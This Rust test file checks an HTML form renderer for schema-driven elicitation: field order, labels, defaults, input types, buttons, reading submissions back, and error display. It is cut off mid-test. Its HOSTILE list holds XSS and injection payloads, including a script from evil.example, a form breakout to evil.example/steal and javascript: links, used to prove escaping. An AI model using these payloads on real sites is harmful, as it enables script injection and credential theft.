//! The client's HTML form (feature `html`): fields in the agent's order with labels,
//! descriptions and required markers (D13, K1), defaults pre-filled (F4), an input per
//! kind, the three buttons (K1, R1); the body a browser posts read back into content
//! that validates, or into every error, shown again beside its field (F3); and a hostile
//! corpus proving every schema text is escaped and nothing is a link (S5, F7). The page
//! is read with `scraper` (html5ever), as a browser's parser sees it.
#![cfg(feature = "html")]

use std::collections::BTreeMap;

use elicit::client::html::{
    parse_submission, render, HtmlForm, Submission, SubmitAction, ACTION_FIELD, FIELD_PREFIX,
};
use elicit::client::AgentIdentity;
use elicit::content::ValidationErrorKind;
use elicit::protocol::Action;
use elicit::RequestedSchema;
use proptest::prelude::*;
use proptest::test_runner::{Config, TestRunner};
use scraper::{ElementRef, Html, Selector};
use serde_json::json;

fn sel(css: &str) -> Selector {
    Selector::parse(css).expect("a valid selector")
}

fn parse(page: &str) -> Html {
    let html = Html::parse_fragment(page);
    assert!(
        html.errors.is_empty(),
        "parse errors {:?} in {page}",
        html.errors
    );
    html
}

/// Every kind, with titles, descriptions, defaults and constraints.
fn schema() -> RequestedSchema {
    RequestedSchema::from_json(&json!({
        "type": "object",
        "title": "Deploy",
        "description": "Settings for this run",
        "properties": {
            "name": { "type": "string", "title": "Name", "description": "Who deploys",
                      "minLength": 2, "maxLength": 10, "default": "ann" },
            "email": { "type": "string", "format": "email", "title": "Email" },
            "site": { "type": "string", "format": "uri" },
            "day": { "type": "string", "format": "date" },
            "at": { "type": "string", "format": "date-time" },
            "code": { "type": "string", "pattern": "[a-z]+" },
            "passes": { "type": "integer", "minimum": 1, "maximum": 5, "default": 2 },
            "ratio": { "type": "number", "minimum": 0.5, "maximum": 100 },
            "confirm": { "type": "boolean", "title": "Confirm", "default": true },
            "strategy": { "type": "string", "title": "Strategy", "oneOf": [
                { "const": "safe", "title": "Conservative", "description": "Small steps" },
                { "const": "fast", "title": "Aggressive" }
            ], "default": "fast" },
            "color": { "type": "string", "enum": ["red", "green"] },
            "tags": { "type": "array", "title": "Tags", "items": { "anyOf": [
                { "const": "a", "title": "Alpha" },
                { "const": "b", "title": "Beta" },
                { "const": "c", "title": "Gamma" }
            ] }, "minItems": 1, "maxItems": 2, "default": ["b"] },
            "langs": { "type": "array", "items": { "type": "string", "enum": ["rust", "go"] } }
        },
        "required": ["name", "confirm", "strategy", "tags"]
    }))
    .expect("a valid schema")
}

const NAMES: [&str; 13] = [
    "name", "email", "site", "day", "at", "code", "passes", "ratio", "confirm", "strategy",
    "color", "tags", "langs",
];

/// The field container of property `i`.
fn field(html: &Html, i: usize) -> ElementRef<'_> {
    html.select(&sel(".elicit-field"))
        .nth(i)
        .expect("a field per property")
}

/// The `<input>` with this id.
fn input<'h>(html: &'h Html, id: &str) -> ElementRef<'h> {
    html.select(&sel(&format!("input#{id}")))
        .next()
        .unwrap_or_else(|| panic!("no input #{id}"))
}

fn attr<'h>(e: ElementRef<'h>, name: &str) -> Option<&'h str> {
    e.value().attr(name)
}

fn text(e: ElementRef<'_>) -> String {
    e.text().collect()
}

// covers: D13, K1
#[test]
fn fields_come_in_the_agents_order_with_labels_descriptions_and_required_markers() {
    let schema = schema();
    let html = parse(&render(&schema));
    let form = html.select(&sel("form")).next().expect("a form");
    assert_eq!(attr(form, "method"), Some("post"));
    assert_eq!(html.select(&sel(".elicit-field")).count(), NAMES.len());
    for (i, name) in NAMES.iter().enumerate() {
        let f = field(&html, i);
        // Every input of the field is named after its property, in order (D13).
        let names: Vec<&str> = f
            .select(&sel("input"))
            .filter_map(|e| attr(e, "name"))
            .collect();
        assert!(!names.is_empty(), "{name} has inputs");
        assert!(names.iter().all(|n| *n == format!("{FIELD_PREFIX}{name}")));
        // Every visible input has a `<label for>` pointing at it.
        for e in f.select(&sel("input:not([type=hidden])")) {
            let id = attr(e, "id").expect("an id");
            let label = html.select(&sel(&format!("label[for=\"{id}\"]"))).count();
            assert_eq!(label, 1, "one label for #{id}");
        }
    }
    // Labels: the title, else the name made readable (`site` → "Site"); required marked.
    let label_of = |id: &str| {
        text(
            html.select(&sel(&format!("label[for=\"{id}\"]")))
                .next()
                .unwrap(),
        )
    };
    assert_eq!(label_of("elicit-f0"), "Name (required)");
    assert_eq!(label_of("elicit-f1"), "Email");
    assert_eq!(label_of("elicit-f2"), "Site");
    // A required boolean is not marked: unticked is an answer (`false`), and
    // "(required)" would read as "must be ticked".
    assert_eq!(label_of("elicit-f8"), "Confirm");
    assert_eq!(
        text(field(&html, 9).select(&sel("legend")).next().unwrap()),
        "Strategy (required)"
    );
    // The description is linked by aria-describedby.
    let name = input(&html, "elicit-f0");
    let described = attr(name, "aria-describedby").unwrap();
    let ids: Vec<&str> = described.split(' ').collect();
    let description = html
        .select(&sel(&format!("#{}", ids[0])))
        .next()
        .expect("the described element");
    assert_eq!(text(description), "Who deploys");
    assert!(attr(name, "required").is_some());
    // The form's title and description, and an unidentified agent by default (K1).
    assert_eq!(
        text(html.select(&sel(".elicit-title")).next().unwrap()),
        "Deploy"
    );
    assert_eq!(
        text(html.select(&sel(".elicit-description")).next().unwrap()),
        "Settings for this run"
    );
    assert!(text(html.select(&sel(".elicit-agent")).next().unwrap()).contains("not identified"));
}

// covers: F4
#[test]
fn defaults_are_pre_filled() {
    let html = parse(&render(&schema()));
    assert_eq!(attr(input(&html, "elicit-f0"), "value"), Some("ann"));
    assert_eq!(attr(input(&html, "elicit-f6"), "value"), Some("2"));
    assert!(attr(input(&html, "elicit-f7"), "value").is_none());
    assert!(attr(input(&html, "elicit-f8"), "checked").is_some());
    let checked = |i: usize| -> Vec<String> {
        field(&html, i)
            .select(&sel("input[checked]"))
            .map(|e| attr(e, "value").unwrap().to_owned())
            .collect()
    };
    assert_eq!(checked(9), ["fast"]);
    // An optional select with no default has its "No answer" button checked.
    assert_eq!(checked(10), [""]);
    assert_eq!(checked(11), ["b"]);
    assert!(checked(12).is_empty());
}

// covers: F2, V4, V1
#[test]
fn each_kind_has_its_input() {
    let html = parse(&render(&schema()));
    let ty = |id: &str| attr(input(&html, id), "type").unwrap().to_owned();
    assert_eq!(ty("elicit-f0"), "text");
    assert_eq!(ty("elicit-f1"), "email");
    assert_eq!(ty("elicit-f2"), "url");
    assert_eq!(ty("elicit-f3"), "date");
    // datetime-local sends no UTC offset: text, with the form in the hint.
    assert_eq!(ty("elicit-f4"), "text");
    assert!(text(html.select(&sel("#elicit-f4-hint")).next().unwrap()).contains("UTC offset"));
    // No `pattern` attribute anywhere: HTML's is anchored, JSON Schema's is a search.
    assert_eq!(html.select(&sel("[pattern]")).count(), 0);
    assert!(text(html.select(&sel("#elicit-f5-hint")).next().unwrap()).contains("[a-z]+"));
    // Lengths: minlength as declared, maxlength in UTF-16 units (never stricter).
    let name = input(&html, "elicit-f0");
    assert_eq!(attr(name, "minlength"), Some("2"));
    assert_eq!(attr(name, "maxlength"), Some("20"));
    assert!(text(html.select(&sel("#elicit-f0-hint")).next().unwrap()).contains("From 2 to 10"));
    let passes = input(&html, "elicit-f6");
    assert_eq!(ty("elicit-f6"), "number");
    assert_eq!(
        (
            attr(passes, "min"),
            attr(passes, "max"),
            attr(passes, "step")
        ),
        (Some("1"), Some("5"), Some("1"))
    );
    let ratio = input(&html, "elicit-f7");
    assert_eq!(
        (attr(ratio, "min"), attr(ratio, "max"), attr(ratio, "step")),
        (Some("0.5"), Some("100.0"), Some("any"))
    );
    // A boolean: a hidden `false` before its checkbox.
    let confirm: Vec<(String, String)> = field(&html, 8)
        .select(&sel("input"))
        .map(|e| {
            (
                attr(e, "type").unwrap().into(),
                attr(e, "value").unwrap().into(),
            )
        })
        .collect();
    assert_eq!(
        confirm,
        [
            ("hidden".into(), "false".into()),
            ("checkbox".into(), "true".into())
        ]
    );
    // A titled single select shows titles and submits consts.
    let strategy: Vec<(String, String)> = field(&html, 9)
        .select(&sel("input[type=radio]"))
        .map(|e| {
            let id = attr(e, "id").unwrap();
            let label = text(
                html.select(&sel(&format!("label[for=\"{id}\"]")))
                    .next()
                    .unwrap(),
            );
            (attr(e, "value").unwrap().into(), label)
        })
        .collect();
    assert_eq!(
        strategy,
        [
            ("safe".to_owned(), "Conservative Small steps".to_owned()),
            ("fast".to_owned(), "Aggressive".to_owned())
        ]
    );
    assert_eq!(
        field(&html, 10).select(&sel("input[type=radio]")).count(),
        3
    );
    // A multi select: checkboxes, its item counts stated.
    let tags = field(&html, 11);
    assert_eq!(tags.value().name(), "fieldset");
    assert_eq!(tags.select(&sel("input[type=checkbox]")).count(), 3);
    assert!(text(tags).contains("Choose from 1 to 2."));
}

// covers: K1, R1
#[test]
fn accept_decline_and_cancel_are_distinct_buttons() {
    let page = HtmlForm::new(&schema())
        .agent(AgentIdentity::new("deploy-bot").with_title("Deploy Bot"))
        .message("Ready to deploy?")
        .action_url("/answer?id=1&x=2")
        .decline_label("No thanks")
        .render();
    let html = parse(&page);
    let buttons: Vec<(String, String, bool)> = html
        .select(&sel("button"))
        .map(|b| {
            assert_eq!(attr(b, "type"), Some("submit"));
            assert_eq!(attr(b, "name"), Some(ACTION_FIELD));
            (
                attr(b, "value").unwrap().to_owned(),
                text(b),
                attr(b, "formnovalidate").is_some(),
            )
        })
        .collect();
    assert_eq!(
        buttons,
        [
            ("accept".to_owned(), "Accept".to_owned(), false),
            ("decline".to_owned(), "No thanks".to_owned(), true),
            ("cancel".to_owned(), "Cancel".to_owned(), true),
        ]
    );
    let form = html.select(&sel("form")).next().unwrap();
    assert_eq!(attr(form, "action"), Some("/answer?id=1&x=2"));
    // The schema is applied exactly on the server: the browser does not check first
    // unless asked to, since it refuses some valid answers.
    assert!(attr(form, "novalidate").is_some());
    let checked = parse(&HtmlForm::new(&schema()).browser_checks(true).render());
    assert!(attr(checked.select(&sel("form")).next().unwrap(), "novalidate").is_none());
    assert_eq!(
        text(html.select(&sel(".elicit-agent")).next().unwrap()),
        "Asked by the agent Deploy Bot (deploy-bot)"
    );
    assert_eq!(
        text(html.select(&sel(".elicit-message")).next().unwrap()),
        "Ready to deploy?"
    );
}

/// What a browser posts for `page`: its successful controls in tree order, with the
/// text inputs in `typed` replaced, the boxes and radios of the names in `ticked`
/// checked exactly for the values listed, and the button `pressed`.
fn post(page: &str, typed: &[(&str, &str)], ticked: &[(&str, &[&str])], pressed: &str) -> Vec<u8> {
    let html = parse(page);
    let typed: BTreeMap<String, &str> = typed
        .iter()
        .map(|(n, v)| (format!("{FIELD_PREFIX}{n}"), *v))
        .collect();
    let ticked: BTreeMap<String, &[&str]> = ticked
        .iter()
        .map(|(n, v)| (format!("{FIELD_PREFIX}{n}"), *v))
        .collect();
    let mut body = form_urlencoded::Serializer::new(String::new());
    for e in html.select(&sel("input")) {
        let name = attr(e, "name").expect("every input is named");
        let value = attr(e, "value").unwrap_or("");
        match attr(e, "type").unwrap_or("text") {
            "hidden" => {
                body.append_pair(name, value);
            }
            "checkbox" | "radio" => {
                let on = match ticked.get(name) {
                    Some(values) => values.contains(&value),
                    None => attr(e, "checked").is_some(),
                };
                if on {
                    body.append_pair(name, value);
                }
            }
            _ => {
                body.append_pair(name, typed.get(name).copied().unwrap_or(value));
            }
        }
    }
    body.append_pair(ACTION_FIELD, pressed);
    body.finish().into_bytes()
}

// covers: F3, F4, R1, V2
#[test]
fn a_filled_form_reads_back_as_content() {
    let schema = schema();
    let page = render(&schema);
    // Only the defaults, plus the two required answers without one.
    let body = post(&page, &[], &[], "accept");
    assert_eq!(
        parse_submission(&schema, &body).unwrap(),
        json!({ "name": "ann", "passes": 2, "confirm": true, "strategy": "fast", "tags": ["b"] })
    );
    // Every kind filled in.
    let body = post(
        &page,
        &[
            ("name", "Zoë & co"),
            ("email", "zoe@example.com"),
            ("site", "https://example.com/a?b=c&d"),
            ("day", "2026-11-30"),
            ("at", "2026-11-30T19:45:00+01:00"),
            ("code", "ABC def"),
            ("passes", "3.0"),
            ("ratio", "2.5"),
        ],
        &[
            ("confirm", &[]),
            ("strategy", &["safe"]),
            ("color", &["green"]),
            ("tags", &["a", "c"]),
            ("langs", &["rust", "go"]),
        ],
        "accept",
    );
    let content = parse_submission(&schema, &body).unwrap();
    assert_eq!(
        content,
        json!({
            "name": "Zoë & co", "email": "zoe@example.com", "site": "https://example.com/a?b=c&d",
            "day": "2026-11-30", "at": "2026-11-30T19:45:00+01:00", "code": "ABC def",
            "passes": 3, "ratio": 2.5, "confirm": false, "strategy": "safe", "color": "green",
            "tags": ["a", "c"], "langs": ["rust", "go"]
        })
    );
    // The response for the button pressed.
    let submission = Submission::parse(&schema, &body);
    assert_eq!(submission.action(), Some(SubmitAction::Accept));
    let response = submission.response().unwrap();
    assert_eq!(response.action(), &Action::Accept);
    assert_eq!(response.content_value(), Some(&content));
    // Optional fields emptied again leave their keys out.
    let body = post(
        &page,
        &[("passes", "")],
        &[("color", &[""]), ("langs", &[])],
        "accept",
    );
    let content = parse_submission(&schema, &body).unwrap();
    assert!(content.get("passes").is_none() && content.get("color").is_none());
    assert!(content.get("langs").is_none());
}

// covers: K1, R1, R2
#[test]
fn decline_and_cancel_need_no_valid_fields() {
    let schema = schema();
    let page = render(&schema);
    for (button, action, expected) in [
        ("decline", Action::Decline, SubmitAction::Decline),
        ("cancel", Action::Cancel, SubmitAction::Cancel),
    ] {
        let body = post(
            &page,
            &[("name", ""), ("passes", "99")],
            &[("tags", &[])],
            button,
        );
        let submission = Submission::parse(&schema, &body);
        assert_eq!(submission.action(), Some(expected));
        let response = submission.response().unwrap();
        assert_eq!(response.action(), &action);
        assert!(response.content().is_none());
    }
    // No known button: read as accept, so the content must validate.
    let submission = Submission::parse(&schema, b"f.name=x&elicit-action=launch");
    assert_eq!(submission.action(), None);
    assert!(submission.response().is_err());
}

// covers: F3, D10, V1, V2, V4, V6, V7
#[test]
fn invalid_submissions_name_each_property() {
    let schema = schema();
    let page = render(&schema);
    let body = post(
        &page,
        &[
            ("name", ""),
            ("email", "not an email"),
            ("at", "2026-11-30T19:45"),
            ("code", "123"),
            ("passes", "2.5"),
            ("ratio", "lots"),
        ],
        &[("tags", &["a", "b", "c"])],
        "accept",
    );
    let errors = parse_submission(&schema, &body).unwrap_err();
    let found: Vec<(String, String)> = errors
        .errors()
        .iter()
        .map(|e| (e.pointer(), format!("{:?}", e.kind)))
        .collect();
    let pointers: Vec<&str> = found.iter().map(|(p, _)| p.as_str()).collect();
    assert_eq!(
        pointers,
        ["/name", "/email", "/at", "/code", "/passes", "/ratio", "/tags"],
        "{found:?}"
    );
    let kinds: Vec<&ValidationErrorKind> = errors.errors().iter().map(|e| &e.kind).collect();
    // `name` declares a default ("ann"): an emptied field is missing, and the error says
    // the default only pre-filled it.
    assert!(matches!(
        kinds[0],
        ValidationErrorKind::MissingWithDefault { default } if default == "ann"
    ));
    assert!(matches!(
        kinds[1],
        ValidationErrorKind::InvalidFormat { .. }
    ));
    assert!(matches!(
        kinds[2],
        ValidationErrorKind::InvalidFormat { .. }
    ));
    assert!(matches!(
        kinds[3],
        ValidationErrorKind::PatternMismatch { .. }
    ));
    assert!(matches!(kinds[4], ValidationErrorKind::WrongType { .. }));
    assert!(matches!(kinds[5], ValidationErrorKind::WrongType { .. }));
    assert!(matches!(
        kinds[6],
        ValidationErrorKind::TooManyItems { max: 2, len: 3 }
    ));
    // Lengths in Unicode scalar values: ten astral characters fit `maxLength: 10`.
    let body = post(&page, &[("name", &"😀".repeat(10))], &[], "accept");
    assert!(parse_submission(&schema, &body).is_ok());
    let body = post(&page, &[("name", &"😀".repeat(11))], &[], "accept");
    assert!(parse_submission(&schema, &body).is_err());
    // Values the form never offers, posted by hand.
    let errors = parse_submission(
        &schema,
        b"f.name=ann&f.confirm=maybe&f.strategy=Aggressive&f.tags=z&f.unknown=1",
    )
    .unwrap_err();
    let pointers: Vec<String> = errors.errors().iter().map(|e| e.pointer()).collect();
    assert_eq!(pointers, ["/confirm", "/strategy", "/tags"]);
}

// covers: F3
#[test]
fn the_page_is_shown_again_with_each_error_beside_its_field() {
    let schema = schema();
    let page = render(&schema);
    let body = post(
        &page,
        &[("name", "x"), ("passes", "9"), ("email", "nope")],
        &[("tags", &[])],
        "accept",
    );
    let submission = Submission::parse(&schema, &body);
    let again = parse(&HtmlForm::new(&schema).refill(&submission).render());
    let problems = text(again.select(&sel(".elicit-problems")).next().unwrap());
    assert!(problems.contains("4 problems"), "{problems}");
    for (i, expected) in [
        (0, "at least 2"),
        (1, "email"),
        (6, "at most 5"),
        (11, "at least 1"),
    ] {
        let f = field(&again, i);
        let error = f
            .select(&sel(".elicit-error"))
            .next()
            .unwrap_or_else(|| panic!("an error beside field {i}"));
        assert!(text(error).contains(expected), "{}", text(error));
        // The inputs point at their error and say they are invalid.
        let error_id = attr(error, "id").unwrap();
        // A group (a fieldset) is described as a whole, an input on its own.
        let described_by_error = std::iter::once(f)
            .chain(f.select(&sel("[aria-describedby]")))
            .filter_map(|e| attr(e, "aria-describedby"))
            .any(|ids| ids.split(' ').any(|id| id == error_id));
        assert!(described_by_error, "field {i} points at its error");
        assert!(f.select(&sel("[aria-invalid=true]")).count() > 0);
    }
    // Fields without a problem carry no error; the typed text is kept, not the default.
    assert_eq!(again.select(&sel(".elicit-field .elicit-error")).count(), 4);
    assert_eq!(attr(input(&again, "elicit-f0"), "value"), Some("x"));
    assert_eq!(attr(input(&again, "elicit-f6"), "value"), Some("9"));
    assert_eq!(field(&again, 11).select(&sel("input[checked]")).count(), 0);
}

// covers: E6
#[test]
fn an_unknown_property_type_is_shown_as_unrenderable_and_blocks_accept() {
    let schema = RequestedSchema::from_json_lenient(&json!({
        "type": "object",
        "properties": {
            "name": { "type": "string" },
            "where": { "type": "geo-point", "title": "Location" }
        }
    }))
    .unwrap();
    let html = parse(&render(&schema));
    assert_eq!(html.select(&sel(".elicit-field")).count(), 2);
    let unknown = text(html.select(&sel(".elicit-unrenderable")).next().unwrap());
    assert!(
        unknown.contains("Location") && unknown.contains("geo-point"),
        "{unknown}"
    );
    let accept = html.select(&sel("button[value=accept]")).next().unwrap();
    assert!(attr(accept, "disabled").is_some());
    let errors = parse_submission(&schema, b"f.name=a&elicit-action=accept").unwrap_err();
    assert_eq!(errors.errors()[0].pointer(), "/where");
    assert!(matches!(
        errors.errors()[0].kind,
        ValidationErrorKind::Unrenderable { .. }
    ));
    let declined = Submission::parse(&schema, b"elicit-action=decline").response();
    assert_eq!(declined.unwrap().action(), &Action::Decline);
}

/// Texts an agent could put anywhere in a form to break out of it.
const HOSTILE: &[&str] = &[
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "\"><script>alert(1)</script>",
    "'><script>alert(1)</script>",
    "\" onfocus=\"alert(1)\" autofocus=\"",
    "' onmouseover='alert(1)",
    "\" href=\"javascript:alert(1)",
    "javascript:alert(document.cookie)",
    "<a href=\"javascript:alert(1)\">click me</a>",
    "https://evil.example/login?next=https://bank.example",
    "</form><form action=\"https://evil.example/steal\"><input name=x>",
    "</label></div></fieldset></form><button formaction=https://evil.example>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)><math><mi//xlink:href=\"data:x,<script>alert(1)</script>\">",
    "<!-- a comment --><![CDATA[x]]><!DOCTYPE html>",
    "</textarea></title></style></script><iframe src=javascript:alert(1)>",
    "&lt;script&gt; &amp; &#x3C; &#60; &quot;",
    "<bdi>\u{202E}exe.txt</bdi>",
    "\u{202E}gnp.exe\u{202C} \u{2066}isolated\u{2069} \u{200F}rtl",
    "zero\u{200B}width\u{200C}join\u{200D}er\u{FEFF}\u{2060}",
    "`${alert(1)}` {{7*7}} <%= 7*7 %>",
    "a\"b'c<d>e&f/g=h`i",
];

/// Where a hostile text goes.
#[derive(Debug, Clone, Copy, PartialEq)]
enum Spot {
    FormTitle,
    FormDescription,
    PropertyTitle,
    PropertyDescription,
    PropertyName,
    StringDefault,
    OptionTitle,
    OptionDescription,
    OptionConst,
    EnumValue,
    UnknownType,
    UnknownFormat,
    Pattern,
    Message,
    Agent,
    ButtonLabel,
}

const SPOTS: [Spot; 16] = [
    Spot::FormTitle,
    Spot::FormDescription,
    Spot::PropertyTitle,
    Spot::PropertyDescription,
    Spot::PropertyName,
    Spot::StringDefault,
    Spot::OptionTitle,
    Spot::OptionDescription,
    Spot::OptionConst,
    Spot::EnumValue,
    Spot::UnknownType,
    Spot::UnknownFormat,
    Spot::Pattern,
    Spot::Message,
    Spot::Agent,
    Spot::ButtonLabel,
];

/// The same form with `t` at `spot`, as a client reads it (the lenient parse), its
/// page, and the content the page's defaults post (`None`: accept is refused).
fn hostile_page(t: &str, spot: Spot) -> (RequestedSchema, String, Option<serde_json::Value>) {
    let at = |s: Spot, benign: &str| -> String {
        if s == spot {
            t.to_owned()
        } else {
            benign.to_owned()
        }
    };
    let name = at(Spot::PropertyName, "name");
    let mut text = json!({ "type": "string", "title": at(Spot::PropertyTitle, "Name"),
        "description": at(Spot::PropertyDescription, "Who") });
    match spot {
        // No default beside a hostile format or pattern, which could refuse it.
        Spot::UnknownFormat => text["format"] = json!(t),
        Spot::Pattern => text["pattern"] = json!(t),
        _ => text["default"] = json!(at(Spot::StringDefault, "ann")),
    }
    let option = at(Spot::OptionConst, "a");
    let item = at(Spot::EnumValue, "x");
    let mut properties = serde_json::Map::new();
    properties.insert(name.clone(), text);
    properties.insert(
        "choice".into(),
        json!({ "type": "string", "oneOf": [
            { "const": option, "title": at(Spot::OptionTitle, "A"),
              "description": at(Spot::OptionDescription, "first") },
            { "const": "b", "title": "B" }
        ], "default": option }),
    );
    properties.insert(
        "many".into(),
        json!({ "type": "array", "items": { "type": "string", "enum": [item, "y"] },
                "default": [item] }),
    );
    properties.insert(
        "other".into(),
        json!({ "type": at(Spot::UnknownType, "boolean") }),
    );
    let schema = RequestedSchema::from_json_lenient(&json!({
        "type": "object",
        "title": at(Spot::FormTitle, "Form"),
        "description": at(Spot::FormDescription, "About"),
        "properties": properties,
    }))
    .unwrap_or_else(|e| panic!("{spot:?} {t:?}: {e}"));
    let page = HtmlForm::new(&schema)
        .agent(AgentIdentity::new(at(Spot::Agent, "bot")))
        .message(at(Spot::Message, "Please answer"))
        .accept_label(at(Spot::ButtonLabel, "Accept"))
        .render();
    let mut content = serde_json::Map::new();
    if spot != Spot::Pattern && spot != Spot::UnknownFormat {
        content.insert(name, json!(at(Spot::StringDefault, "ann")));
    }
    content.insert("choice".into(), json!(option));
    content.insert("many".into(), json!([item]));
    content.insert("other".into(), json!(false));
    let expected = (spot != Spot::UnknownType).then_some(serde_json::Value::Object(content));
    (schema, page, expected)
}

/// The elements and attributes of a page, with what the agent wrote blanked out: the
/// texts, and the `value` and `name` attributes that carry its option values, defaults
/// and property names. Two forms differing only in their texts have the same shape.
fn shape(html: &Html) -> Vec<String> {
    html.root_element()
        .descendants()
        .filter_map(ElementRef::wrap)
        .map(|e| {
            let mut attrs: Vec<String> = e
                .value()
                .attrs()
                .map(|(k, v)| match k {
                    "value" | "name" => format!("{k}=*"),
                    _ => format!("{k}={v}"),
                })
                .collect();
            attrs.sort();
            format!("<{} {}>", e.value().name(), attrs.join(" "))
        })
        .collect()
}

/// The elements the renderer writes, and nothing else.
const ELEMENTS: &[&str] = &[
    "html", "form", "div", "p", "strong", "bdi", "label", "input", "span", "fieldset", "legend",
    "button", "code", "style",
];

// covers: S5, F7, E6
#[test]
fn hostile_texts_stay_text_wherever_they_are() {
    let mut schemas = 0;
    for spot in SPOTS {
        let (_, benign, _) = hostile_page("plain", spot);
        let benign_shape = shape(&parse(&benign));
        for t in HOSTILE {
            let (schema, page, expected) = hostile_page(t, spot);
            schemas += 1;
            let case = format!("{spot:?} {t:?}");
            assert!(
                !page.to_ascii_lowercase().contains("<script"),
                "{case}: {page}"
            );
            let html = parse(&page);
            // The parser sees exactly the elements and attributes of the benign form:
            // no element, attribute or breakout came from the text.
            assert_eq!(shape(&html), benign_shape, "{case}: {page}");
            // The one style element is the crate's own style sheet, whole.
            let styles: Vec<String> = html.select(&sel("style")).map(text).collect();
            assert_eq!(styles, [elicit::client::html::STYLESHEET], "{case}");
            for e in html
                .root_element()
                .descendants()
                .filter_map(ElementRef::wrap)
            {
                assert!(
                    ELEMENTS.contains(&e.value().name()),
                    "{case}: <{}>",
                    e.value().name()
                );
                for (k, v) in e.value().attrs() {
                    assert!(
                        !["href", "src", "style", "formaction", "srcdoc"].contains(&k)
                            && !k.starts_with("on"),
                        "{case}: attribute {k}"
                    );
                    if k != "value" && k != "name" {
                        assert!(!v.contains("javascript:"), "{case}: {k}={v}");
                    }
                }
            }
            // The text arrives whole: in a text node or an attribute value, as written.
            let in_text = html
                .root_element()
                .descendants()
                .filter_map(ElementRef::wrap)
                .any(|e| {
                    e.text().any(|s| s.contains(t)) || e.value().attrs().any(|(_, v)| v.contains(t))
                });
            assert!(in_text, "{case}: not shown as written in {page}");
            // And a post of the page as it stands reads back to the same values.
            let body = post(&page, &[], &[], "accept");
            match expected {
                Some(expected) => {
                    assert_eq!(
                        parse_submission(&schema, &body).ok(),
                        Some(expected),
                        "{case}"
                    )
                }
                None => assert!(parse_submission(&schema, &body).is_err(), "{case}"),
            }
        }
    }
    assert!(schemas >= 30, "{schemas} hostile forms");
}

// covers: S5
#[test]
fn control_characters_do_not_disturb_the_parser() {
    for t in [
        "nul\u{0}here",
        "bell\u{7}\u{1b}[31m",
        "non\u{FFFF}character\u{FDD0}",
    ] {
        let schema = RequestedSchema::from_json_lenient(&json!({
            "type": "object", "title": t,
            "properties": { t: { "type": "string", "default": t } }
        }))
        .unwrap();
        let html = parse(&render(&schema));
        let shown = t.replace('\0', "\u{FFFD}");
        assert_eq!(
            text(html.select(&sel(".elicit-title")).next().unwrap()),
            shown
        );
        assert_eq!(
            attr(input(&html, "elicit-f0"), "value"),
            Some(shown.as_str())
        );
    }
}

/// Option values in option order, as a browser posts ticked boxes (tree order).
fn subset(
    options: &'static [&'static str],
    min: usize,
    max: usize,
) -> BoxedStrategy<Vec<&'static str>> {
    proptest::collection::vec(any::<bool>(), options.len())
        .prop_map(move |picks| {
            options
                .iter()
                .zip(picks)
                .filter_map(|(o, p)| p.then_some(*o))
                .collect::<Vec<_>>()
        })
        .prop_filter("item count", move |v| (min..=max).contains(&v.len()))
        .boxed()
}

// covers: F3, D13, V1, V3
#[test]
fn any_valid_answer_typed_into_the_page_reads_back_as_itself() {
    let schema = schema();
    let page = render(&schema);
    let strategy = (
        // Text inputs hold one line: a browser strips line breaks from their value.
        "[^\\x00-\\x1f\\x7f]{2,10}",
        proptest::option::of(1i64..=5),
        proptest::option::of(0.5f64..=100.0),
        any::<bool>(),
        prop_oneof![Just("safe"), Just("fast")],
        proptest::option::of(prop_oneof![Just("red"), Just("green")]),
        subset(&["a", "b", "c"], 1, 2),
        subset(&["rust", "go"], 0, 2),
    );
    let config = Config {
        cases: crate::common::gen::cases(64),
        failure_persistence: None,
        ..Config::default()
    };
    TestRunner::new(config)
        .run(
            &strategy,
            |(name, passes, ratio, confirm, strategy, color, tags, langs)| {
                let mut content = serde_json::Map::new();
                content.insert("name".into(), json!(name));
                let passes_text = passes.map(|p| p.to_string()).unwrap_or_default();
                let ratio_text = ratio
                    .map(|r| serde_json::Number::from_f64(r).unwrap().to_string())
                    .unwrap_or_default();
                if let Some(p) = passes {
                    content.insert("passes".into(), json!(p));
                }
                if let Some(r) = ratio {
                    content.insert("ratio".into(), json!(r));
                }
                content.insert("confirm".into(), json!(confirm));
                content.insert("strategy".into(), json!(strategy));
                if let Some(c) = color {
                    content.insert("color".into(), json!(c));
                }
                content.insert("tags".into(), json!(tags));
                if !langs.is_empty() {
                    content.insert("langs".into(), json!(langs));
                }
                let content = serde_json::Value::Object(content);
                prop_assert!(schema.validate(&content).is_ok());
                let confirm_ticks: &[&str] = if confirm { &["true"] } else { &[] };
                let body = post(
                    &page,
                    &[
                        ("name", name.as_str()),
                        ("passes", &passes_text),
                        ("ratio", &ratio_text),
                    ],
                    &[
                        ("confirm", confirm_ticks),
                        ("strategy", &[strategy]),
                        ("color", &[color.unwrap_or("")]),
                        ("tags", &tags),
                        ("langs", &langs),
                    ],
                    "accept",
                );
                prop_assert_eq!(parse_submission(&schema, &body).ok(), Some(content));
                Ok(())
            },
        )
        .unwrap();
}

// covers: K1, K4
#[test]
fn a_form_mode_request_gives_its_form_with_its_message() {
    let request = elicit::CreateElicitation::from_json(&json!({
        "mode": "form", "sessionId": "s1", "message": "Deploy <now>?",
        "requestedSchema": { "type": "object", "properties": {
            "confirm": { "type": "boolean", "default": false }
        } }
    }))
    .unwrap();
    let page = HtmlForm::for_request(&request)
        .expect("a form-mode request")
        .agent(AgentIdentity::new("deploy-bot"))
        .render();
    let html = parse(&page);
    assert_eq!(
        text(html.select(&sel(".elicit-message")).next().unwrap()),
        "Deploy <now>?"
    );
    // A submission read with another schema fills only what it can, without panicking.
    let other = RequestedSchema::from_json(&json!({ "type": "object", "properties": {} })).unwrap();
    let submission = Submission::parse(&other, b"elicit-action=accept");
    let again = HtmlForm::for_request(&request)
        .unwrap()
        .refill(&submission)
        .render();
    assert!(parse(&again).select(&sel("input[type=checkbox]")).count() == 1);
}

// covers: F5, F6
#[test]
fn secrets_are_masked_and_never_written_back_when_asked() {
    let schema = RequestedSchema::from_json(&json!({
        "type": "object",
        "properties": {
            "api_key": { "type": "string", "description": "Your API key", "minLength": 8 },
            "region": { "type": "string", "minLength": 2 }
        },
        "required": ["api_key", "region"]
    }))
    .unwrap();
    // A client's form never asks for secrets: by default nothing is masked.
    let plain = parse(&HtmlForm::new(&schema).render());
    assert_eq!(attr(input(&plain, "elicit-f0"), "type"), Some("text"));

    let body = b"f.api_key=short-1&f.region=x&elicit-action=accept";
    let submission = Submission::parse(&schema, body);
